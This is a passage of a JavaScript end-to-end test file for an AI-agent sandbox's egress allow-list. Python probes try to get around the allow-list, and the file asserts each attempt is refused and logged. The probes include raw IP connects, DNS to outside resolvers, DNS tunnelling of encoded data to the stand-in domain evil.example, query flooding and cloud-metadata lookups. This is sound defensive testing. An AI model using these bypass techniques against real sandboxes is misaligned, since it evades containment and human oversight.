// egress-bypass.test.mjs: egress by allow-list (issue #12), end to end: the
// bypass table of docs/egress-design.md section (g).  Every row is a python3
// snippet run in a real sandbox (both backends); each asserts what the
// program saw (NXDOMAIN, a reset, EPERM...), the record of the attempt (the
// run's `egress` field AND network_log, with its reason) and that the host's
// own servers saw nothing.  The positive rows fetch from those servers over
// HTTP and HTTPS through an allowed name, in allow and open mode, read the
// JSON Lines log, and reach a real registry when the host can.
//
// The host side: an HTTP and an HTTPS server (a self-signed certificate made
// with the host's openssl) and a canary TCP and UDP port on 127.0.0.1, each
// counting what reaches it.  IGN_MCP_EGRESS_HOSTS makes good.test and friends
// resolve where the rows need them.  Three servers: P with
// IGN_MCP_NET_PRIVATE=host (good.test reaches the local servers), Q without it
// (loopback and private names refused, the rebinding row), O with
// IGN_MCP_NET=off.  The peek rows (30-37) also talk to a front end: Debian's
// nginx on 127.0.0.1 serving two sites on one port, good.test (allowed, its
// default) and evil.test (never allowed), each with its own access log, and
// a second one whose default is evil.test (row 36), and to a server that
// speaks first (an SMTP-like greeting).

import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import dgram from 'node:dgram';
import dns from 'node:dns/promises';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { spawn } from 'node:child_process';
import {
  REPO, startServer, call, callErr, sleep, waitUntil, writeFile, IS_VM, IS_NS, TOOLS_SKIP, VM_ONLY,
} from './lib.mjs';

const T = { timeout: 300_000 };
const PROBE = fs.readFileSync(path.join(REPO, 'tests/e2e/helpers/egress_probe.py'));
/* A raw address no allow-list names (example.com's old one) and its v6. */
const RAW4 = '93.184.216.34';
const RAW6 = '2606:2800:220:1::1';
/* Reasons the record carries (egress/broker.c, common/egress_policy.c). */
const R = {
  rawIp: 'IP address not in allow_hosts',
  notAllowed: 'not in allow_hosts',
  port: 'port not in allow_hosts',
  sni: 'SNI mismatch',
  host: 'Host mismatch',
  hostPort: 'Host port mismatch',
  malformedHttp: 'malformed HTTP request',
  malformedTls: 'malformed TLS',
  noHost: 'HTTP request without Host',
  loopback: 'loopback address',
  private: 'private address',
  metadata: 'metadata address',
  unspecified: 'unspecified address',
  none: 'network is none',
  off: 'egress is off',
  tooMany: 'too many connections',
  rate: 'query rate',
  unknown: 'unknown address',
};

// ------------------------------------------------------------ host side

/* A self-signed certificate for good.test, made with the host's openssl. */
function makeCert(dir) {
  const key = path.join(dir, 'key.pem');
  const cert = path.join(dir, 'cert.pem');
  execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes',
    '-keyout', key, '-out', cert, '-days', '2', '-subj', '/CN=good.test',
    '-addext', 'subjectAltName=DNS:good.test,DNS:rebind.test', '-addext', 'basicConstraints=critical,CA:TRUE'],
  { stdio: 'pipe' });
  return { key: fs.readFileSync(key), cert: fs.readFileSync(cert) };
}

/* What /big sends: byte i of the body is i % 251 (a short, shifted or
 * changed copy shows in its hash). */
function patternAt(start, len) {
  const b = Buffer.alloc(len);
  for (let i = 0; i < len; i++) b[i] = (start + i) % 251;
  return b;
}
const CHUNK_LEN = 1 << 16;
function expectedSha(n) {
  const h = crypto.createHash('sha256');
  for (let off = 0; off < n; off += CHUNK_LEN) h.update(patternAt(off % 251, Math.min(CHUNK_LEN, n - off)));
  return h.digest('hex');
}

/* What every host server counts: TCP connections accepted, requests seen,
 * UDP datagrams. */
function counters() {
  return { http: 0, https: 0, canary: 0, udp: 0, requests: [], held: [] };
}

function handler(cnt) {
  return (req, res) => {
    cnt.requests.push(`${req.method} ${req.url} ${req.headers.host}`);
    res.setHeader('Connection', 'close');
    const u = new URL(req.url, 'http://x');
    if (u.pathname === '/hello') {
      res.setHeader('Content-Type', 'text/plain');
      res.end('hello from the host\n');
    } else if (u.pathname === '/hold') {
      cnt.held.push(res);
    } else if (u.pathname === '/big') {
      const n = Number(u.searchParams.get('n'));
      res.setHeader('Content-Length', String(n));
      let off = 0;
      const more = () => {
        while (off < n) {
          const len = Math.min(CHUNK_LEN, n - off);
          const ok = res.write(patternAt(off % 251, len));
          off += len;
          cnt.bigWritten = off;
          if (!ok) return res.once('drain', more);
        }
        res.end();
      };
      more();
    } else {
      res.statusCode = 404;
      res.end('no such thing\n');
    }
  };
}

async function listen(server) {
  await new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', resolve);
  });
  return server.address().port;
}

async function hostSide(dir) {
  const cnt = counters();
  const { key, cert } = makeCert(dir);
  const h = http.createServer(handler(cnt));
  h.on('connection', () => cnt.http++);
  const s = https.createServer({ key, cert }, handler(cnt));
  s.on('connection', () => cnt.https++);
  const canary = net.createServer((c) => {
    cnt.canary++;
    c.destroy();
  });
  const udp = dgram.createSocket('udp4');
  udp.on('message', () => cnt.udp++);
  await new Promise((resolve) => udp.bind(0, '127.0.0.1', resolve));
  const ports = { http: await listen(h), https: await listen(s), canary: await listen(canary), udp: udp.address().port };
  return {
    cnt,
    cert,
    ports,
    /* What reached any of them, to compare before and after a row. */
    seen: () => ({ http: cnt.http, https: cnt.https, canary: cnt.canary, udp: cnt.udp }),
    release() {
      for (const r of cnt.held.splice(0)) r.end('held\n');
    },
    close: () => new Promise((resolve) => {
      for (const r of cnt.held.splice(0)) r.destroy();
      h.closeAllConnections?.();
      s.closeAllConnections?.();
      udp.close();
      let n = 3;
      const done = () => --n === 0 && resolve();
      h.close(done);
      s.close(done);
      canary.close(done);
    }),
  };
}

/* A minimal TLS ClientHello naming SNI, in one record of version VERSION. */
function clientHello(sni, version) {
  const name = Buffer.from(sni);
  const u16 = (n) => [n >> 8, n & 0xff];
  const ext = [0, 0, ...u16(name.length + 5), ...u16(name.length + 3), 0, ...u16(name.length), ...name,
    0, 0x2b, 0, 3, 2, 3, 4]; // server_name, supported_versions: TLS 1.3
  const body = [3, 3, ...Array(32).fill(7), 0, 0, 2, 0x13, 0x01, 1, 0, ...u16(ext.length), ...ext];
  const hs = [1, 0, ...u16(body.length), ...body];
  return [22, ...u16(version), ...u16(hs.length), ...hs];
}

/* Debian's nginx (scripts/setup.sh installs it). */
const NGINX = ['/usr/sbin/nginx', '/usr/bin/nginx'].find((p) => fs.existsSync(p));
const NGINX_SKIP = NGINX ? false : 'nginx is not installed (scripts/setup.sh installs it)';

async function freePort() {
  const srv = net.createServer();
  const port = await listen(srv);
  await new Promise((resolve) => srv.close(resolve));
  return port;
}

/* A front end as the issue found it: nginx on one loopback port serving two
 * sites by name, good.test and evil.test, DEFAULT the one that serves a
 * request naming neither; what each site served is a line in its own
 * access log. */
async function frontEnd(dir, dflt = 'good.test') {
  const root = path.join(dir, `nginx-${dflt}`);
  fs.mkdirSync(root, { recursive: true });
  const port = await freePort();
  const log = (n) => path.join(root, `${n}.log`);
  const temps = ['client_body', 'proxy', 'fastcgi', 'uwsgi', 'scgi']
    .map((t) => `${t}_temp_path ${path.join(root, t)};`).join(' ');
  const site = (name, extra) => `server { listen 127.0.0.1:${port}${extra}; server_name ${name}; ` +
    `access_log ${log(name)}; return 200 "${name.split('.')[0]} site\n"; }`;
  fs.writeFileSync(path.join(root, 'nginx.conf'), `daemon off; worker_processes 1; pid ${path.join(root, 'nginx.pid')};
error_log ${log('error')};
events { worker_connections 64; }
http { ${temps} ${['good.test', 'evil.test'].map((n) => site(n, n === dflt ? ' default_server' : '')).join(' ')} }
`);
  const child = spawn(NGINX, ['-p', root, '-c', path.join(root, 'nginx.conf'), '-e', log('error')], { stdio: 'ignore' });
  let exited = false;
  child.on('exit', () => { exited = true; });
  const up = await waitUntil(() => new Promise((resolve) => {
    const c = net.connect(port, '127.0.0.1', () => { c.destroy(); resolve(true); });
    c.on('error', () => resolve(false));
  }), { timeoutMs: 10_000 });
  assert.ok(up && !exited, `nginx did not start on 127.0.0.1:${port}: ${fs.existsSync(log('error')) ? fs.readFileSync(log('error'), 'utf8') : 'no error log'}`);
  const lines = (n) => (fs.existsSync(log(n)) ? fs.readFileSync(log(n), 'utf8').split('\n').filter(Boolean).length : 0);
  return {
    port,
    seen: () => ({ good: lines('good.test'), evil: lines('evil.test') }),
    close: () => new Promise((resolve) => {
      if (exited) return resolve();
      child.once('exit', resolve);
      child.kill('SIGTERM');
    }),
  };
}

/* A TLS 1.3 server as far as a HelloRetryRequest: answers the first bytes
 * with a ServerHello whose random is RFC 8446's HelloRetryRequest value,
 * and keeps every byte it gets (cnt.got, per connection). */
const HRR_RANDOM = 'cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c';
async function retryServer() {
  const cnt = { got: [] };
  const srv = net.createServer((c) => {
    const i = cnt.got.push(Buffer.alloc(0)) - 1;
    c.on('data', (d) => {
      if (!cnt.got[i].length) {
        const body = Buffer.concat([Buffer.from([3, 3]), Buffer.from(HRR_RANDOM, 'hex'), Buffer.from([0, 0x13, 0x01, 0, 0, 0])]);
        const hs = Buffer.concat([Buffer.from([2, 0, 0, body.length]), body]);
        c.write(Buffer.concat([Buffer.from([22, 3, 3, 0, hs.length]), hs]));
      }
      cnt.got[i] = Buffer.concat([cnt.got[i], d]);
    });
    c.on('error', () => {});
  });
  const port = await listen(srv);
  return { cnt, port, close: () => new Promise((resolve) => { srv.close(resolve); }) };
}

/* A server-first protocol: greets, then echoes what it gets. */
async function greeter() {
  const cnt = { conns: 0, got: '' };
  const srv = net.createServer((c) => {
    cnt.conns++;
    c.write('220 good.test ESMTP\r\n');
    c.on('data', (d) => {
      cnt.got += d.toString('latin1');
      c.write(d);
    });
    c.on('error', () => {});
  });
  const port = await listen(srv);
  return { cnt, port, close: () => new Promise((resolve) => { srv.close(resolve); }) };
}

/* Is some address of NAME one the broker would connect to?  The broker
 * refuses documentation, reserved and the like whatever the operator says
 * (egress_addr_classify); a machine whose resolver answers with such an
 * address (a transparent egress gateway in 203.0.113.0/24, say) reaches the
 * registry, but never through the broker. */
function v4Class(a) {
  const p = a.split('.').map(Number);
  const n = ((p[0] << 24) >>> 0) + (p[1] << 16) + (p[2] << 8) + p[3];
  const in4 = (net_, bits) => ((n >>> (32 - bits)) << (32 - bits)) >>> 0 === net_ >>> 0;
  if (in4(0xc0000200, 24) || in4(0xc6336400, 24) || in4(0xcb007100, 24)) return 'documentation address';
  if (in4(0x7f000000, 8)) return 'loopback address';
  if (in4(0x0a000000, 8) || in4(0xac100000, 12) || in4(0xc0a80000, 16)) return 'private address';
  if (in4(0xa9fe0000, 16)) return 'link-local address';
  if (in4(0x64400000, 10)) return 'shared address (carrier-grade NAT)';
  if (in4(0xc6120000, 15) || in4(0xf0000000, 4) || in4(0xc0000000, 24)) return 'reserved address';
  return null;
}

// ------------------------------------------------------------ records

const CONNECT_FIELDS = ['kind', 'ts_ms', 'host', 'ip', 'port', 'allowed', 'bytes_up', 'bytes_down', 'duration_ms'];
const DNS_FIELDS = ['kind', 'ts_ms', 'name', 'type', 'allowed'];
const EGRESS_FIELDS = ['mode', 'allowed_rules', 'allowed', 'denied', 'dns_queries', 'total_events', 'truncated', 'egress_log_path'];

function checkEvent(e, where) {
  const fields = e.kind === 'dns' ? DNS_FIELDS : e.kind === 'connect' ? CONNECT_FIELDS : ['kind', 'ts_ms'];
  for (const f of fields) assert.ok(f in e, `${where}: an event without ${f}: ${JSON.stringify(e)}`);
  assert.equal(typeof e.ts_ms, 'number', `${where}: ts_ms ${JSON.stringify(e)}`);
  if (e.kind === 'connect' || e.kind === 'dns') {
    assert.equal(typeof e.allowed, 'boolean');
    if (!e.allowed) assert.equal(typeof e.reason, 'string', `${where}: a refusal without a reason: ${JSON.stringify(e)}`);
  }
  if (e.kind === 'connect') {
    assert.ok(e.host === null || typeof e.host === 'string');
    assert.equal(typeof e.port, 'number');
    assert.ok(Number.isInteger(e.bytes_up) && e.bytes_up >= 0 && Number.isInteger(e.bytes_down) && e.bytes_down >= 0);
  }
}

/* An `egress` object (a run's, or network_log's) is well-formed. */
function checkEgress(eg, where) {
  assert.ok(eg && typeof eg === 'object', `${where}: no egress field`);
  for (const f of EGRESS_FIELDS) assert.ok(f in eg, `${where}: egress has no ${f}: ${JSON.stringify(eg).slice(0, 400)}`);
  for (const l of ['allowed', 'denied', 'dns_queries']) {
    assert.ok(Array.isArray(eg[l]), `${where}: egress.${l} is not a list`);
    assert.ok(eg[l].length <= 64, `${where}: egress.${l} holds ${eg[l].length} entries, over 64`);
    for (const e of eg[l]) checkEvent(e, `${where}.${l}`);
  }
  for (const e of eg.allowed) assert.equal(e.allowed, true, `${where}: a refusal among the allowed: ${JSON.stringify(e)}`);
  for (const e of eg.denied) assert.equal(e.allowed, false, `${where}: an admitted event among the denied: ${JSON.stringify(e)}`);
  for (const e of eg.dns_queries) assert.equal(e.kind, 'dns', `${where}: a ${e.kind} event among dns_queries`);
  assert.equal(typeof eg.total_events, 'number');
  assert.equal(typeof eg.truncated, 'boolean');
}

const events = (eg) => [...eg.allowed, ...eg.denied, ...eg.dns_queries];

/* Does event E match WANT (each field equal, or a RegExp that matches, or a
 * predicate)? */
function matches(e, want) {
  for (const [k, v] of Object.entries(want)) {
    if (v instanceof RegExp) {
      if (typeof e[k] !== 'string' || !v.test(e[k])) return false;
    } else if (typeof v === 'function') {
      if (!v(e[k])) return false;
    } else if (e[k] !== v) return false;
  }
  return true;
}

const brief = (eg) => events(eg).map((e) => (e.kind === 'dns'
  ? `dns ${e.name} ${e.type} ${e.allowed ? 'allowed' : e.reason}`
  : e.kind === 'connect' ? `connect ${e.host}/${e.ip}:${e.port} ${e.allowed ? 'allowed' : e.reason}` : JSON.stringify(e))).join('; ');

const fmtWant = (w) => JSON.stringify(w, (k, v) => (v instanceof RegExp ? String(v) : typeof v === 'function' ? 'fn' : v));

/* Asserts that the run's egress (EG) holds an event like each of WANTS, and
 * that network_log holds the same events (same kind and ts_ms); returns the
 * run's events, one per want. */
async function recorded(sess, eg, wants, what) {
  checkEgress(eg, `${what}: the run's egress`);
  const found = wants.map((w) => {
    const e = events(eg).find((x) => matches(x, w));
    assert.ok(e, `${what}: the run's egress has no event like ${fmtWant(w)}; it has: ${brief(eg) || 'nothing'}`);
    return e;
  });
  const log = await call(sess.c, 'network_log', { session_id: sess.sid });
  checkEgress(log, `${what}: network_log`);
  for (const e of found) {
    const same = events(log).find((x) => x.kind === e.kind && x.ts_ms === e.ts_ms && matches(x, { reason: e.reason, allowed: e.allowed }));
    assert.ok(same, `${what}: network_log does not have the run's event ${JSON.stringify(e)}; it has: ${brief(log)}`);
  }
  return found;
}

/* A refused raw-address connect names the address the program asked for
 * (docs/egress-design.md (e): `ip` is what the broker connected to, or was
 * asked for, for raw IP connects), whatever refused it. */
function assertAskedIp(e, ip, what) {
  assert.equal(e.ip, ip, `${what}: the record lost the address the program asked for: ${JSON.stringify(e)}`);
}

/* Nothing was admitted in this run: no allowed connection. */
function noneAdmitted(eg, what) {
  const a = events(eg).filter((e) => e.kind === 'connect' && e.allowed);
  assert.deepEqual(a, [], `${what}: a connection was admitted`);
}

// ------------------------------------------------------------ sandbox side

async function openEgress(c, args, what) {
  const o = await call(c, 'open_session', args);
  assert.equal(typeof o.session_id, 'string');
  assert.ok(o.egress && typeof o.egress === 'object', `${what}: open_session's result has no egress: ${JSON.stringify(o).slice(0, 500)}`);
  assert.equal(o.egress.capture, undefined, `${what}: the sandbox cannot capture its traffic: ${o.egress.capture}`);
  assert.equal(o.egress.mode, args.network ?? 'none');
  assert.ok(Array.isArray(o.egress.allowed_rules));
  assert.equal(typeof o.egress.egress_log_path, 'string');
  const sess = { c, sid: o.session_id, open: o };
  await writeFile(c, sess.sid, '/root/eg.py', PROBE);
  return sess;
}

/* Runs CODE (python3, after `from eg import *`) in SESS; returns {out: the
 * last stdout line as JSON, r: the run's result, eg: its egress}. */
async function py(sess, code, { timeout_s = 90, env } = {}) {
  const r = await call(sess.c, 'run', {
    session_id: sess.sid, command: 'python3 -', stdin: `from eg import *\n${code}\n`, timeout_s, ...(env ? { env } : {}),
  }, { timeout: (timeout_s + 60) * 1000 });
  assert.equal(r.exit_code, 0, `the probe failed (exit ${r.exit_code}): ${r.stderr}\n${r.stdout}`);
  const last = r.stdout.trim().split('\n').pop();
  let out;
  try {
    out = JSON.parse(last);
  } catch {
    assert.fail(`the probe printed no JSON: ${r.stdout} ${r.stderr}`);
  }
  return { out, r, eg: r.egress };
}

const RESET = ['reset', 'refused'];
/* A refused TCP connection: the handshake completes with the agent and the
 * broker's refusal arrives as a reset at the first read or write
 * (ECONNREFUSED at connect is accepted too: docs/egress-design.md (h)). */
function assertReset(o, what) {
  assert.ok(RESET.includes(o.result), `${what}: expected a reset, the program saw ${JSON.stringify(o)}`);
}

describe('egress: the bypass table', { skip: TOOLS_SKIP }, () => {
  let dir, host, front, frontEvil, greet, retry, P, Q, A, B, N, C, D;
  let hostsP, hostsQ;
  const rulesA = [];

  before(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'e2e-egress-'));
    fs.chmodSync(dir, 0o755);
    host = await hostSide(dir);
    if (NGINX) {
      front = await frontEnd(dir);
      frontEvil = await frontEnd(dir, 'evil.test');
    }
    greet = await greeter();
    retry = await retryServer();
    const { http: H, https: S } = host.ports;
    hostsP = path.join(dir, 'hosts-p');
    fs.writeFileSync(hostsP, '127.0.0.1 good.test\n127.0.0.1 loop.test\n10.0.0.5 ten.test\n169.254.169.254 meta.test\n0.0.0.0 zero.test\n');
    hostsQ = path.join(dir, 'hosts-q');
    fs.writeFileSync(hostsQ, `127.0.0.1 good.test loop.test\n10.0.0.5 ten.test\n169.254.169.254 meta.test\n${RAW4} rebind.test\n`);
    P = await startServer({ tools: true, env: { IGN_MCP_NET: 'open', IGN_MCP_NET_PRIVATE: 'host', IGN_MCP_EGRESS_HOSTS: hostsP } });
    Q = await startServer({ tools: true, env: { IGN_MCP_NET: 'open', IGN_MCP_EGRESS_HOSTS: hostsQ } });
    // good.test itself: ports 80 and 443, where nothing listens on the
    // host (the peek rows on ports 80 and 443 are refused before any connect).
    rulesA.push(`good.test:${H}`, `good.test:${S}`, 'good.test', `good.test:${greet.port}`, `good.test:${retry.port}`, 'meta.test', 'zero.test', 'pypi.org');
    if (front) rulesA.push(`good.test:${front.port}`, `good.test:${frontEvil.port}`);
    A = await openEgress(P.client, { network: 'allow', allow_hosts: rulesA }, 'session A');
    await writeFile(P.client, A.sid, '/root/ca.pem', host.cert);
    C = await openEgress(Q.client, { network: 'allow', allow_hosts: ['loop.test', 'ten.test', `rebind.test:${H}`, 'registry.npmjs.org'] }, 'session C');
  });

  after(async () => {
    host?.release();
    await P?.close();
    await Q?.close();
    await host?.close();
    await front?.close();
    await frontEvil?.close();
    await greet?.close();
    await retry?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  /* Runs a refusal row: BODY gets nothing and does the attempt; then
   * nothing may have reached the host's servers. */
  async function refused(what, body) {
    const before = host.seen();
    const res = await body();
    await sleep(50);
    assert.deepEqual(host.seen(), before, `${what}: the host's servers saw something (before, after)`);
    return res;
  }

  test('the session: its egress in open_session, resolv.conf, allowed names resolve to synthetic addresses', T, async () => {
    const e = A.open.egress;
    assert.equal(e.mode, 'allow');
    assert.equal(e.allowed_rules.length, rulesA.length, `allowed_rules ${JSON.stringify(e.allowed_rules)}`);
    for (const r of rulesA) assert.ok(e.allowed_rules.includes(r), `allowed_rules ${JSON.stringify(e.allowed_rules)} lacks ${r}`);
    const r = await call(P.client, 'run', { session_id: A.sid, command: 'cat /etc/resolv.conf 2>/dev/null || echo no-resolv.conf; getent hosts good.test' });
    // The agent writes it where the tree's /etc can be written (a root
    // server's ns sandbox, a vm); an ns sandbox of a server run as a user
    // cannot create files in the rootfs's /etc (owned by a uid its user
    // namespace does not map), and has none: resolvers then ask 127.0.0.1,
    // which the getent below shows.
    if (IS_NS && process.getuid() !== 0) assert.match(r.stdout, /^(nameserver 127\.0\.0\.1|no-resolv\.conf)$/m);
    else assert.match(r.stdout, /^nameserver 127\.0\.0\.1$/m);
    const m = r.stdout.match(/^(\S+)\s+good\.test/m);
    assert.ok(m, `getent hosts good.test: ${r.stdout} ${r.stderr}`);
    assert.match(m[1], /^198\.(18|19)\./, 'good.test did not resolve to a synthetic address in 198.18.0.0/15');
    await recorded(A, r.egress, [{ kind: 'dns', name: 'good.test', type: 'A', allowed: true }], 'getent');
  });

  test('positive: HTTP GET through good.test (IGN_MCP_NET_PRIVATE=host): the body, bytes counted both ways', T, async () => {
    const { http: H } = host.ports;
    const before = host.seen();
    const r = await call(P.client, 'run', { session_id: A.sid, command: `curl -sS --max-time 20 http://good.test:${H}/hello` });
    assert.equal(r.exit_code, 0, r.stderr);
    assert.equal(r.stdout, 'hello from the host\n');
    assert.equal(host.seen().http, before.http + 1, 'the HTTP server did not see exactly one connection');
    const [e] = await recorded(A, r.egress, [{ kind: 'connect', host: 'good.test', port: H, allowed: true }], 'HTTP GET');
    assert.equal(e.ip, '127.0.0.1');
    assert.equal(e.rule, `good.test:${H}`);
    assert.ok(e.bytes_up >= 40, `bytes_up ${e.bytes_up} is less than the request`);
    assert.ok(e.bytes_down >= 20 + 60, `bytes_down ${e.bytes_down} is less than the response`);
  });

  test('positive: HTTPS GET through good.test with the test CA: SNI recorded, bytes counted', T, async () => {
    const { https: S } = host.ports;
    const before = host.seen();
    const r = await call(P.client, 'run', { session_id: A.sid, command: `curl -sS --max-time 20 --cacert /root/ca.pem https://good.test:${S}/hello` });
    assert.equal(r.exit_code, 0, r.stderr);
    assert.equal(r.stdout, 'hello from the host\n');
    assert.equal(host.seen().https, before.https + 1);
    const [e] = await recorded(A, r.egress, [{ kind: 'connect', host: 'good.test', port: S, allowed: true }], 'HTTPS GET');
    assert.equal(e.sni, 'good.test');
    assert.equal(e.ip, '127.0.0.1');
    assert.ok(e.bytes_up >= 200, `bytes_up ${e.bytes_up}: less than a ClientHello`);
    assert.ok(e.bytes_down >= 300, `bytes_down ${e.bytes_down}: less than a certificate`);
  });

  test('positive: the JSON Lines log holds the session\'s events, 0600', T, async () => {
    const p = A.open.egress.egress_log_path;
    assert.ok(p.endsWith(`${A.sid}.egress.jsonl`), `egress_log_path ${p}`);
    const log = await call(P.client, 'network_log', { session_id: A.sid });
    assert.ok(events(log).length >= 3, `network_log: ${brief(log)}`);
    const read = () => (fs.existsSync(p) ? fs.readFileSync(p, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l)) : []);
    // The log is written by a thread of its own: wait for it.
    const missing = () => events(log).filter((e) => !read().some((l) => l.kind === e.kind && l.ts_ms === e.ts_ms && (l.host ?? l.name) === (e.host ?? e.name)));
    await waitUntil(() => missing().length === 0, { timeoutMs: 5000 });
    assert.deepEqual(missing(), [], `network_log's events missing from ${p}`);
    assert.equal(fs.statSync(p).mode & 0o777, 0o600);
    const lines = read();
    assert.ok(lines.some((l) => l.kind === 'connect' && l.host === 'good.test' && l.allowed && l.bytes_down > 0), `${p}: no admitted connection to good.test with its bytes`);
    for (const l of lines) checkEvent(l, p);
  });

  test('row 1: raw IPv4 connect (93.184.216.34:443)', T, async () => {
    const { out, eg } = await refused('row 1', () => py(A, `out(**tcp("${RAW4}", 443))`));
    assertReset(out, 'row 1');
    await recorded(A, eg, [{ kind: 'connect', host: null, ip: RAW4, port: 443, allowed: false, reason: R.rawIp }], 'row 1');
    noneAdmitted(eg, 'row 1');
  });

  test('row 2: IPv6 literal ([2606:2800:220:1::1]:443)', T, async () => {
    const { out, eg } = await refused('row 2', () => py(A, `out(**tcp("${RAW6}", 443))`));
    assertReset(out, 'row 2');
    await recorded(A, eg, [{ kind: 'connect', host: null, ip: RAW6, port: 443, allowed: false, reason: R.rawIp }], 'row 2');
    noneAdmitted(eg, 'row 2');
  });

  test('row 3: a v4-mapped address from an AF_INET6 socket', T, async () => {
    const { out, eg } = await refused('row 3', () => py(A, `out(**tcp("::ffff:${RAW4}", 443, fam=socket.AF_INET6))`));
    assertReset(out, 'row 3');
    await recorded(A, eg, [{ kind: 'connect', ip: (ip) => ip === RAW4 || ip === `::ffff:${RAW4}`, port: 443, allowed: false, reason: R.rawIp }], 'row 3');
    noneAdmitted(eg, 'row 3');
  });

  test('row 4: DNS over UDP to an outside resolver (8.8.8.8)', T, async () => {
    const { out, eg } = await refused('row 4', () => py(A, 'out(**dns("evil.example", server="8.8.8.8"))'));
    assert.equal(out.rcode, 3, `row 4: expected NXDOMAIN, got ${JSON.stringify(out)}`);
    await recorded(A, eg, [{ kind: 'dns', name: 'evil.example', type: 'A', allowed: false, reason: R.notAllowed }], 'row 4');
  });

  test('row 5: DNS over TCP to 1.1.1.1:53', T, async () => {
    const { out, eg } = await refused('row 5', () => py(A, 'out(**dns("evil-tcp.example", server="1.1.1.1", tcp_=True))'));
    assert.equal(out.rcode, 3, `row 5: expected NXDOMAIN, got ${JSON.stringify(out)}`);
    await recorded(A, eg, [{ kind: 'dns', name: 'evil-tcp.example', type: 'A', allowed: false, reason: R.notAllowed }], 'row 5');
  });

  test('row 6: DNS tunnelling: TXT queries of long labels under evil.example', T, async () => {
    const code = `
import binascii
name = ".".join(binascii.hexlify(os.urandom(32)).decode()[:63] for _ in range(3)) + ".evil.example"
r = [dns(name, server="8.8.8.8", qtype=16) for _ in range(3)]
out(name=name, rcodes=[x.get("rcode", x.get("result")) for x in r])`;
    const { out, eg } = await refused('row 6', () => py(A, code));
    assert.deepEqual(out.rcodes, [3, 3, 3], `row 6: ${JSON.stringify(out)}`);
    const [e] = await recorded(A, eg, [{ kind: 'dns', type: 'TXT', allowed: false, reason: R.notAllowed }], 'row 6');
    assert.ok(e.name === out.name.toLowerCase() || /^<invalid:\d+>$/.test(e.name), `row 6: the record's name ${e.name}`);
  });

  test('row 7: 1000 DNS queries as fast as they are answered: REFUSED beyond the rate, counted', T, async () => {
    // At most 32 queries in flight, so that the agent's own cap on waiting
    // lookups (64, answered REFUSED in the sandbox) is not what refuses.
    const code = `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
t0 = time.monotonic()
sent, got, rc = 0, 0, {}
try:
    while got < 1000:
        while sent < 1000 and sent - got < 32:
            _, p = dns_packet("good.test", 1, sent + 1)
            s.sendto(p, ("8.8.8.8", 53))
            sent += 1
        m, _a = s.recvfrom(2048)
        got += 1
        c = parse_answer(m)["rcode"]
        rc[c] = rc.get(c, 0) + 1
except socket.timeout:
    pass
out(sent=sent, got=got, took_s=time.monotonic() - t0, rcodes=rc)`;
    // The bound is taken on the host's clock, around the whole call: it is
    // the broker's bucket that refills by it, and a loaded TCG guest's own
    // clock can run behind it (464 answered in 1.11 s of guest time once).
    const h0 = performance.now();
    const { out, eg } = await refused('row 7', () => py(A, code));
    const hostS = (performance.now() - h0) / 1000;
    const refusedN = out.rcodes['5'] ?? 0;
    const answered = out.rcodes['0'] ?? 0;
    process.stdout.write(`# row 7: ${answered} answered, ${refusedN} REFUSED in ${out.took_s.toFixed(2)} s\n`);
    assert.equal(out.got, 1000, `row 7: queries went unanswered: ${JSON.stringify(out)}`);
    assert.ok(refusedN >= 1, `row 7: no query was REFUSED: ${JSON.stringify(out)}`);
    assert.ok(answered <= 200 + 200 * Math.max(out.took_s, hostS) + 20, `row 7: ${answered} queries answered in ${out.took_s} s (${hostS.toFixed(2)} s on the host), over 200 a second: ${JSON.stringify(out)}`);
    checkEgress(eg, 'row 7');
    assert.equal(eg.truncated, true, 'row 7: 1000 queries fit in the lists?');
    assert.ok(eg.total_events >= answered, `row 7: total_events ${eg.total_events} < the ${answered} queries answered`);
    // The refusals by rate are counted (one event a second, the rest in
    // dns_refused_by_rate): the lists keep the latest 64 queries, which may
    // all be admitted ones, so the event is looked for in the log.
    assert.ok((eg.dns_refused_by_rate ?? 0) >= refusedN, `row 7: dns_refused_by_rate ${eg.dns_refused_by_rate} < the ${refusedN} REFUSED answers`);
    const p = A.open.egress.egress_log_path;
    const inLog = await waitUntil(() => fs.readFileSync(p, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l))
      .some((l) => l.kind === 'dns' && l.name === 'good.test' && l.allowed === false && l.reason === R.rate), { timeoutMs: 5000 });
    assert.ok(inLog, `row 7: no "query rate" event in ${p}`);
    await sleep(1500); // the bucket refills before the next rows
  });

  test('row 8: DNS to 127.0.0.1:53 with a NUL in the name, and a 300-byte name', T, async () => {
    const code = `
a = dns(b"ev\\x00il.example", server="127.0.0.1")
b = dns(".".join(["a" * 59] * 5) + ".example", server="127.0.0.1")
out(nul=a, long=b)`;
    const { out, eg } = await refused('row 8', () => py(A, code));
    for (const k of ['nul', 'long']) assert.ok([1, 3].includes(out[k].rcode), `row 8 (${k}): expected FORMERR or NXDOMAIN: ${JSON.stringify(out[k])}`);
    await recorded(A, eg, [{ kind: 'dns', name: /^<invalid:\d+>$/, allowed: false }], 'row 8');
    // A name over DNS's 255 bytes cannot be carried to the host (a LOOKUP's
    // NAME is at most 255 bytes): the agent answers FORMERR itself, and then
    // nothing was asked of the host; else the host records it as invalid.
    const inv = eg.dns_queries.filter((e) => /^<invalid:\d+>$/.test(e.name));
    assert.ok(inv.length >= 2 || (out.long.rcode === 1 && inv.length === 1), `row 8: ${JSON.stringify(out)}; recorded: ${brief(eg)}`);
  });

  test('row 11: a permitted name resolving to 169.254.169.254, even with IGN_MCP_NET_PRIVATE=host', T, async () => {
    const { out, eg } = await refused('row 11', () => py(A, 'out(dns=dns("meta.test", server="127.0.0.1"), libc=resolve("meta.test"))'));
    assert.equal(out.dns.rcode, 3, `row 11: ${JSON.stringify(out)}`);
